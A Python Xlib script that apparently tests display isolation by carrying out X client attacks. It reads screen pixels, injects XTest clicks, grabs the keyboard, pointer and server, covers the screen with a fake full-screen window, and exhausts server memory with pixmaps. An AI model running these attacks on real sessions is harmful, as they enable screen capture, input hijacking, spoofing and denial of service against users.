"""Attacks by an X client on what is on the glass: glass.py COMMAND ..., on $DISPLAY.

  look RRGGBB...     how many pixels of the root window have each colour, as JSON
  press X,Y...       clicks there, and on a grid, by XTest; says how many presses came to itself
  grab               takes pointer, keyboard and server until SIGTERM; says what it got
  fake RRGGBB        a full screen of that colour over all others until SIGTERM
  pixmaps            pixmaps of 64 MB until the server is gone"""

import json
import signal
import sys
from collections import Counter

from Xlib import X, display
from Xlib.ext import xtest

opened = display.Display()
root = opened.screen().root
size = root.get_geometry()


def look(colours):
    wanted = {bytes.fromhex(c)[::-1]: c for c in colours}
    raw = root.get_image(0, 0, size.width, size.height, X.ZPixmap, 0xFFFFFFFF).data
    seen = Counter(raw[i:i + 3] for i in range(0, len(raw), 4))
    print(json.dumps({name: seen[pixel] for pixel, name in wanted.items()}))


def cover(pixel):
    """A window over the whole display that no window manager touches."""
    window = root.create_window(0, 0, size.width, size.height, 0, X.CopyFromParent,
                                background_pixel=pixel, override_redirect=True,
                                event_mask=X.ButtonPressMask | X.ExposureMask)
    window.map()
    window.configure(stack_mode=X.Above)
    opened.sync()


def press(places):
    cover(0)
    grid = [(x, y) for x in range(8, size.width, 64) for y in range(8, size.height, 64)]
    for x, y in [*places, *grid]:
        root.warp_pointer(x, y)
        xtest.fake_input(opened, X.MotionNotify, x=x, y=y)
        xtest.fake_input(opened, X.ButtonPress, 1)
        xtest.fake_input(opened, X.ButtonRelease, 1)
    opened.sync()
    came = 0
    while opened.pending_events():
        came += opened.next_event().type == X.ButtonPress
    print(json.dumps({"sent": len(places) + len(grid), "came": came}))


def grab():
    pointer = root.grab_pointer(True, X.ButtonPressMask, X.GrabModeAsync, X.GrabModeAsync,
                                root, X.NONE, X.CurrentTime)
    keyboard = root.grab_keyboard(True, X.GrabModeAsync, X.GrabModeAsync, X.CurrentTime)
    opened.grab_server()
    opened.sync()
    print(json.dumps({"pointer": pointer, "keyboard": keyboard}), flush=True)
    signal.pause()


def fake(colour):
    cover(int(colour, 16))
    print("shown", flush=True)
    signal.pause()


def pixmaps():
    print("ready", flush=True)
    while True:  # ends with the connection
        pixmap = root.create_pixmap(4096, 4096, opened.screen().root_depth)
        pixmap.fill_rectangle(pixmap.create_gc(), 0, 0, 4096, 4096)
        opened.sync()


if __name__ == "__main__":
    command, words = sys.argv[1], sys.argv[2:]
    if command == "look":
        look(words)
    elif command == "press":
        press([tuple(int(n) for n in word.split(",")) for word in words])
    elif command == "fake":
        fake(words[0])
    else:
        {"grab": grab, "pixmaps": pixmaps}[command]()
